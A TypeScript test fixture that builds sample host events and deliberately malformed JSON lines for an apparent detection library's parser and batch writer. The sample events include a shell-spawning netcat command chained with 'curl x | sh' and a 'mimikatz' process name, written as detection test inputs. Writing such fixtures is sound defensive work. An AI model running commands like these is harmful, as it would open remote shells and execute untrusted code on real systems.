import { type HostEvent, RecordBatchWriter } from '@firebreak/detect'
import { utf8Encode } from '@firebreak/kernel'

const VALUES: HostEvent['fields'] = {
  Image: '/usr/bin/nc',
  CommandLine: 'nc -e /bin/sh; curl x | sh',
  A: 'svc-abc12 Xy xAy',
  B: 'Xy',
  N: 8,
  IP: '10.1.2.3',
  T: '2024-01-10T03:04:05Z',
}

const EVENTS: readonly object[] = [
  VALUES,
  { ...VALUES, A: ['', null, 'x'.repeat(200)], B: null, N: '-1e3', IP: '::ffff:10.0.0.1', T: 'never' },
  { Channel: 'Security', EventID: 4688, NewProcessName: 'evil', A: 'eight', x: { y: ['mimikatz \u00e4\u{1f525}'] } },
  { type: 'EXECVE', a0: 'nc', a1: '-e', exe: '/bin/nc', A: 'Xy' },
  {},
]

/** Lines of JSON: what matches, what is odd, what is no event. */
export const HOSTILE_LINES: readonly Uint8Array[] = EVENTS.map((event) => utf8Encode(JSON.stringify(event))).concat([
  utf8Encode('{"A":"\\ud800\\u0000","A":1e999,"N":-0,"B":[[[1]]]}'),
  Uint8Array.of(0x7b, 0xff, 0x7d),
])

/** Three events as a sensor has them. */
export function recordBatch(): Uint8Array {
  const writer = new RecordBatchWriter()
  writer.add({ category: 'process_creation', product: 'linux', timeMs: 1_000, fields: VALUES })
  writer.add({ category: 'process_creation', product: 'linux', timeMs: 2_000, fields: VALUES })
  writer.add({ category: 'network_connection', product: 'linux', timeMs: 0, fields: { DestinationIp: '203.0.113.9' } })
  return writer.finish()
}

/** Events of a candidate's tests, in one batch each. */
export function recordsOf(events: readonly { readonly fields: HostEvent['fields'] }[]): readonly Uint8Array[] {
  return events.map(({ fields }) => {
    const writer = new RecordBatchWriter()
    writer.add({ category: 'process_creation', product: 'linux', timeMs: 1, fields })
    return writer.finish()
  })
}
